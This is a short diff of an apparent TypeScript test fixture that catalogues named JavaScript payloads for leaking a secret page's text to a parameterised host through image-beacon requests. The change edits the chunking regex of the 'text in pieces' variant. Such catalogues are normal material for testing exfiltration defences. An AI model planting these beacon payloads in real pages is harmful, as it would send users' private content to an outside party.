@@ -118,7 +118,7 @@ const LEAVING: Readonly<Record<string, Single>> = {
   ),
   'text in pieces': elsewhere(
     (to) =>
-      `${SECRET_PAGE}${next(`t.textContent.match(/.{1,30}/g).forEach((one, n) => { new Image().src = '${to}/i' + n + '?d=' + encodeURIComponent(one) })`)}`,
+      `${SECRET_PAGE}${next(`t.textContent.match(/.{30}/g).forEach((one, n) => { new Image().src = '${to}/i' + n + '?d=' + encodeURIComponent(one) })`)}`,
   ),
   'text by its words with lines between': elsewhere(
     (to) => `${SECRET_PAGE}${next(`new Image().src = '${to}/i?d=' + t.textContent.replaceAll(' ', '_')`)}`,
